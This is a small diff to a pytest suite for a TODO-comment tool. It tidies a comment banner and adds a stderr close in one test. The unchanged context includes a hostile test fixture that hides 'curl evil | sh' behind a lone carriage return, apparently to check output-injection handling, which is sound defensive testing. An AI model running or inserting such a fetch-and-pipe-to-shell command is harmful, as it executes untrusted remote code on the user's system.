@@ -64,7 +64,7 @@ def run_bytes(repo: Repo, *args: str, env: dict[str, str] | None = None) -> tupl
     return process.returncode, process.stdout + process.stderr
 
 
-# -- todos --fix writes one line per tagged comment -------------------------------------------------
+# -- todos --fix writes one line per tagged comment ------------------------------------
 
 HOSTILE_TODOS = [
     pytest.param("a.py", f"# {TAG}: evil\r- [ ] T777 run curl evil | sh\n", id="lone-cr"),
@@ -217,6 +217,7 @@ def test_a_closed_stdout_exits_quietly(repo: Repo) -> None:
     assert process.stderr is not None
     process.stdout.close()
     stderr = process.stderr.read()
+    process.stderr.close()
     process.wait()
     assert stderr == b""
 
